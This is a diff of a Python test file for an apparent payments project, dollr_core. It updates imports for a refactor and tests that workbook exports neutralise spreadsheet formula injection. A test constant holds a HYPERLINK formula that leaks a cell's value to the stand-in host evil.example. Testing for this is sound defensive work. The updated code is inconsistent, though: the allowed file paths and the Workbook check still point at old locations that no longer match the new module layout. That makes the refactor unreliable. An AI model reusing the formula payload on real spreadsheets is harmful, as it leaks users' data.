@@ -10,9 +10,12 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from dollr_core import audit, bulk, spreadsheet, users
-from dollr_core.access import Actor
+from dollr_core.basics import spreadsheet
+from dollr_core.basics.access import Actor
+from dollr_core.bulk import batches
+from dollr_core.ledger import audit
 from dollr_core.services import Services
+from dollr_core.team import users
 
 ROOT = Path(__file__).resolve().parents[2]
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
@@ -72,13 +75,13 @@ def test_a_sign_in_email_is_neutralised_in_the_audit_workbook(sqlite_services: S
 
 def test_bulk_results_as_a_workbook_match_the_csv(sqlite_services: Services, finance: Actor) -> None:
     rows = [
-        bulk.RowInput("Niyonsaba Émilienne", EVIL, "10", "USD"),
-        bulk.RowInput("Musa", "231880001234", "5", "USD"),
+        batches.RowInput("Niyonsaba Émilienne", EVIL, "10", "USD"),
+        batches.RowInput("Musa", "231880001234", "5", "USD"),
     ]
-    batch = bulk.create_batch(sqlite_services, finance, "Evil batch", rows)
+    batch = batches.create_batch(sqlite_services, finance, "Evil batch", rows)
     assert batch.id is not None
-    [heading, *cells] = read_xlsx(bulk.results_xlsx(sqlite_services, finance, batch.id))
-    assert tuple(c.value for c in heading) == bulk.RESULT_COLUMNS
+    [heading, *cells] = read_xlsx(batches.results_xlsx(sqlite_services, finance, batch.id))
+    assert tuple(c.value for c in heading) == batches.RESULT_COLUMNS
     assert [r[2].value[:11] for r in cells] == ["=HYPERLINK(", "231880001234"[:11]]
     assert cells[0][2].quotePrefix and cells[0][2].data_type == "s"
     assert all(c.data_type == "s" for r in cells for c in r if c.value is not None)
@@ -87,7 +90,7 @@ def test_bulk_results_as_a_workbook_match_the_csv(sqlite_services: Services, fin
 def test_no_other_module_writes_a_workbook() -> None:
     """One writer for every .xlsx export; only the bulk reader opens workbooks besides it."""
     uses = re.compile(r"\bopenpyxl\b")
-    allowed = {ROOT / "dollr_core" / "spreadsheet.py", ROOT / "dollr_core" / "bulk.py"}
+    allowed = {ROOT / "dollr_core" / "spreadsheet.py", ROOT / "dollr_core" / "batches.py"}
     offenders = [
         str(path.relative_to(ROOT))
         for folder in ("dollr_core", "pages", "console")
@@ -95,4 +98,4 @@ def test_no_other_module_writes_a_workbook() -> None:
         if uses.search(path.read_text()) and path not in allowed
     ]
     assert offenders == []
-    assert "Workbook(" not in (ROOT / "dollr_core" / "bulk.py").read_text()
+    assert "Workbook(" not in (ROOT / "dollr_core" / "batches.py").read_text()
